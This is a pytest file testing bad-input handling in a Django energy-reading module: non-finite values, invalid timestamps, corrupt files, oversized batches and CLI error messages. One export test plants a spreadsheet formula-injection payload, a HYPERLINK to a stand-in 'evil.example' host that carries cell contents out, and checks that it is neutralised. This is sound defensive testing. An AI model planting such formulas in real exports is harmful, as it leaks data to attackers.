"""Bad input never breaks the energy module (issue 8): every entry refuses or flags it clearly."""

import datetime as dt
import io
import json
import re

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.test import Client
from django.urls import reverse
from typer.testing import CliRunner

from techvalley.core.models import ApiToken
from techvalley.green import services
from techvalley.green.cli import green_app
from techvalley.green.ingest import IngestError
from techvalley.green.models import Meter
from techvalley.registry.models import Company
from tests.green.conftest import write_csv
from tests.green.test_ingest import quarter_rows

runner = CliRunner()


def token(world, role):
    return {"HTTP_AUTHORIZATION": f"Bearer {ApiToken.objects.create(user=world['users'][role], name='t').key}"}


def no_staging(lake):
    staging = lake.root / "_staging"
    return not staging.exists() or not any(staging.iterdir())


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "nan"])
def test_api_non_finite_values_are_rejected_and_the_report_stays_finite(world, meters, lake, value):
    c = Client()
    good = {"meter_id": "A-electricity", "timestamp": "2025-03-03T00:00:00+09:00", "value": 2}
    bad = {"meter_id": "A-electricity", "timestamp": "2025-03-03T00:15:00+09:00", "value": value}
    r = c.post("/api/green/readings", [good, bad], content_type="application/json", **token(world, "member_a"))
    assert r.status_code == 200, r.content
    body = r.json()
    assert (body["accepted"], body["rejected"], body["reasons"]) == (1, 1, {"not a finite number": 1})
    report = c.get("/api/green/report", {"year": 2025}, **token(world, "officer"))
    assert report.status_code == 200 and b"NaN" not in report.content and b"Infinity" not in report.content
    assert report.json()["total"]["kwh"] == pytest.approx(2.0)
    page = Client()
    page.force_login(world["users"]["officer"])
    html = page.get(reverse("green:complex"), {"year": 2025}).content.decode()
    assert not re.search(r"\bnan\b|\binf\b", html, re.IGNORECASE)


@pytest.mark.django_db
def test_api_bare_json_nan_is_refused(world, meters):
    body = '[{"meter_id": "A-electricity", "timestamp": "2025-03-03T00:00:00+09:00", "value": NaN}]'
    r = Client().post("/api/green/readings", body, content_type="application/json", **token(world, "member_a"))
    assert r.status_code == 400 and r.json()["code"]


@pytest.mark.django_db
@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "1800-01-01T00:00:00"])
def test_api_out_of_range_times_answer_4xx_and_leave_no_staging(world, meters, lake, stamp):
    records = [{"meter_id": "A-electricity", "timestamp": stamp, "value": 1}]
    r = Client().post("/api/green/readings", records, content_type="application/json", **token(world, "member_a"))
    assert r.status_code == 422 and "range" in r.json()["message"], r.content
    assert no_staging(lake) and lake.manifest()["files"] == []


@pytest.mark.django_db
def test_csv_out_of_range_and_off_grid_times_are_rejected_with_reasons(world, meters, tmp_path, lake):
    rows = [
        ("A-electricity", "2025-03-03T00:00:00+09:00", 1.0),
        ("A-electricity", "0001-01-01T00:00:00+14:00", 1.0),
        ("A-electricity", "9999-12-31T23:59:59-12:00", 1.0),
        ("A-electricity", "2025-03-03T00:07:00+09:00", 1.0),  # off the 15-minute grid
        ("A-electricity", "2025-03-03T00:30:00+09:00", "inf"),
    ]
    result = services.ingest_files(world["cx"], [write_csv(tmp_path / "t.csv", rows)])
    assert result.accepted == 1 and result.rejected == 4
    assert result.reasons == {
        "time out of range": 2,
        "time off the meter's interval grid": 1,
        "not a finite number": 1,
    }
    assert no_staging(lake)
    rejects = pq.read_table(lake.root / lake.manifest()["batches"][result.batch]["rejects"], columns=["reason"])
    assert rejects.num_rows == 4


@pytest.mark.django_db
def test_parquet_non_finite_values_are_rejected(world, meters, tmp_path, lake):
    path = tmp_path / "n.parquet"
    stamps = [dt.datetime(2025, 3, 3, 0, 0), dt.datetime(2025, 3, 3, 0, 15), dt.datetime(2025, 3, 3, 0, 30)]
    pq.write_table(
        pa.table({"meter_id": ["A-electricity"] * 3, "timestamp": stamps, "value": [1.0, float("nan"), float("inf")]}),
        path,
    )
    result = services.ingest_files(world["cx"], [path])
    assert (result.accepted, result.reasons) == (1, {"not a finite number": 2})
    assert services.report(world["cx"], 2025)["total"]["kwh"] == pytest.approx(1.0)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row, expected",
    [
        (("A-electricity", "2025-03-03 00:15:00", "abc"), "t.csv 3행"),
        (("A-electricity", "2032-13-45", "1"), "t.csv 3행"),
        (("A-electricity", "yesterday", "1"), "t.csv 3행"),
    ],
)
def test_unreadable_csv_names_file_and_line_and_leaves_nothing(world, meters, tmp_path, lake, row, expected):
    path = write_csv(tmp_path / "t.csv", [("A-electricity", "2025-03-03 00:00:00", "1"), row])
    with pytest.raises(IngestError, match=expected):
        services.ingest_files(world["cx"], [path])
    assert no_staging(lake) and lake.manifest()["files"] == []


@pytest.mark.django_db
def test_corrupt_parquet_is_named(world, meters, tmp_path, lake):
    path = tmp_path / "broken.parquet"
    path.write_bytes(b"PAR1 this is not parquet at all")
    with pytest.raises(IngestError, match="broken.parquet"):
        services.ingest_files(world["cx"], [path])
    assert no_staging(lake)


@pytest.mark.django_db
def test_failure_after_staging_removes_the_batch_folder(world, meters, tmp_path, lake, monkeypatch):
    from techvalley.green import ingest as ingest_module

    def boom(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(ingest_module, "_write_rollups", boom)
    with pytest.raises(RuntimeError):
        services.ingest_files(world["cx"], [write_csv(tmp_path / "a.csv", quarter_rows("A-electricity"))])
    assert no_staging(lake) and lake.manifest()["files"] == []


@pytest.mark.django_db
def test_oversized_batch_is_a_json_413(world, meters, monkeypatch):
    from techvalley.green import api

    monkeypatch.setattr(api, "MAX_BATCH", 3)
    records = [
        {"meter_id": "A-electricity", "timestamp": f"2025-03-03T00:{m:02d}:00+09:00", "value": 1}
        for m in (0, 15, 30, 45)
    ]
    r = Client().post("/api/green/readings", records, content_type="application/json", **token(world, "member_a"))
    assert r.status_code == 413 and r.json()["code"] == "too_large"


BAD_YEARS = ["²", "-1", "10000", "99999999999999999999", "abc"]


@pytest.mark.django_db
@pytest.mark.parametrize("year", BAD_YEARS)
def test_bad_years_answer_400_everywhere(world, meters, year):
    officer = Client()
    officer.force_login(world["users"]["officer"])
    pk = world["a"].pk
    for url in (
        reverse("green:company", args=[pk]),
        reverse("green:company_export", args=[pk]),
        reverse("green:complex"),
        reverse("green:complex_export"),
        reverse("green:complex_export_xlsx"),
    ):
        r = officer.get(url, {"year": year})
        assert r.status_code == 400, (url, year, r.status_code)
    r = Client().get("/api/green/report", {"year": year}, **token(world, "officer"))
    assert 400 <= r.status_code < 500, (year, r.status_code)


@pytest.mark.django_db
def test_spark_is_never_started_from_the_api(world, meters, monkeypatch):
    from techvalley.green import analytics

    monkeypatch.setattr(analytics, "SparkEngine", lambda *a, **k: pytest.fail("Spark started from a web request"))
    r = Client().get("/api/green/report", {"year": 2025, "engine": "spark"}, **token(world, "officer"))
    assert r.status_code == 422 and r.json()["field"] == "engine"


@pytest.mark.django_db
def test_exports_neutralise_formulas(world, meters, tmp_path):
    from openpyxl import load_workbook

    Company.objects.filter(pk=world["a"].pk).update(name='=HYPERLINK("http://evil.example/"&A2,"click me")')
    services.ingest_files(world["cx"], [write_csv(tmp_path / "a.csv", quarter_rows("A-electricity"))])
    officer = Client()
    officer.force_login(world["users"]["officer"])
    text = officer.get(reverse("green:complex_export"), {"year": 2025}).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    assert text.splitlines()[0].startswith("기업 ID,기업명,월")  # Korean headers
    wb = load_workbook(io.BytesIO(officer.get(reverse("green:complex_export_xlsx"), {"year": 2025}).getvalue()))
    names = [row[1] for row in wb.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert names and all(n.startswith("'=") for n in names)


# --- the command line ----------------------------------------------------------------------


def sim_dir(tmp_path, world, readings_rows, meters_extra=""):
    d = tmp_path / "in"
    d.mkdir()
    (d / "meters.csv").write_text(
        "meter_id,company,kind,unit,resolution\n"
        "NEW-1,새로운 시뮬레이션 회사,electricity,kWh,15min\n"
        f"NEW-2,#{world['a'].pk},electricity,kWh,15min\n" + meters_extra,
        encoding="utf-8",
    )
    write_csv(d / "readings.csv", readings_rows)
    return d


@pytest.mark.django_db(transaction=True)
def test_cli_ingest_validates_everything_before_creating_anything(world, tmp_path, lake):
    companies = Company.objects.count()
    bad = sim_dir(tmp_path, world, [("NEW-1", "2025-03-03 00:00:00", "1"), ("NEW-1", "2032-13-45", "1")])
    r = runner.invoke(green_app, ["ingest", str(bad)])
    assert r.exit_code == 2, r.output
    assert "readings.csv 3행" in r.output and "Traceback" not in r.output
    assert Company.objects.count() == companies and not Meter.objects.filter(meter_id__startswith="NEW-").exists()
    assert no_staging(lake)


@pytest.mark.django_db(transaction=True)
def test_cli_ingest_refuses_a_bad_meters_file_with_its_line(world, tmp_path):
    d = sim_dir(tmp_path, world, [("NEW-1", "2025-03-03 00:00:00", "1")], "NEW-3,x,plutonium,kg,15min\n")
    r = runner.invoke(green_app, ["ingest", str(d)])
    assert r.exit_code == 2 and "meters.csv 4행" in r.output and "plutonium" in r.output
    assert not Meter.objects.filter(meter_id__startswith="NEW-").exists()


@pytest.mark.django_db(transaction=True)
def test_cli_ingest_explains_counts_and_fails_when_nothing_is_accepted(world, meters, tmp_path):
    first = write_csv(tmp_path / "a.csv", quarter_rows("A-electricity", n=4))
    r = runner.invoke(green_app, ["ingest", str(first)])
    assert r.exit_code == 0 and "accepted 4" in r.output
    rows = quarter_rows("A-electricity", n=4) + [("NOPE", "2025-03-03 00:00:00", 1)]
    r = runner.invoke(green_app, ["ingest", str(write_csv(tmp_path / "b.csv", rows))])
    assert r.exit_code == 1, r.output
    assert "duplicate 4" in r.output and "rejected 1" in r.output and "NOPE" in r.output
    assert "등록되지 않은 계량기" in r.output and "accepted" not in r.output.split("duplicate")[0].split("s\n")[-1]


@pytest.mark.django_db(transaction=True)
def test_cli_report_sorted_with_ids_and_says_when_there_is_no_data(world, meters, tmp_path):
    rows = quarter_rows("A-electricity", n=4) + quarter_rows("B-electricity", n=4)
    services.ingest_files(world["cx"], [write_csv(tmp_path / "a.csv", rows)])
    Company.objects.filter(pk=world["b"].pk).update(name="가나다 금속")
    Company.objects.filter(pk=world["a"].pk).update(name="하나 정밀")
    r = runner.invoke(green_app, ["report", "--year", "2025"])
    assert r.exit_code == 0, r.output
    assert r.output.index("가나다 금속") < r.output.index("하나 정밀")
    assert str(world["a"].pk) in r.output and str(world["b"].pk) in r.output
    data = json.loads(runner.invoke(green_app, ["report", "--year", "2025", "--json"]).stdout)
    assert {c["company_id"] for c in data["companies"]} == {world["a"].pk, world["b"].pk}
    empty = runner.invoke(green_app, ["report", "--year", "2019"])
    assert empty.exit_code == 1 and "2019" in empty.output and "no readings" in empty.output
    assert runner.invoke(green_app, ["report", "--year", "²"]).exit_code == 2


@pytest.mark.django_db
def test_huge_ids_are_not_found_not_errors(world, meters):
    huge = "99999999999999999999"
    c = Client()
    assert c.get("/api/green/report", {"year": 2025, "company": huge}, **token(world, "officer")).status_code < 500
    assert c.get("/api/green/measures", {"company": huge}, **token(world, "officer")).status_code < 500
    patch = c.patch(
        f"/api/green/measures/{huge}", {"note": "x"}, content_type="application/json", **token(world, "officer")
    )
    assert patch.status_code < 500
    officer = Client()
    officer.force_login(world["users"]["officer"])
    for name in ("green:company", "green:measure_new", "green:measure_edit"):
        assert officer.get(reverse(name, args=[int(huge)])).status_code == 404
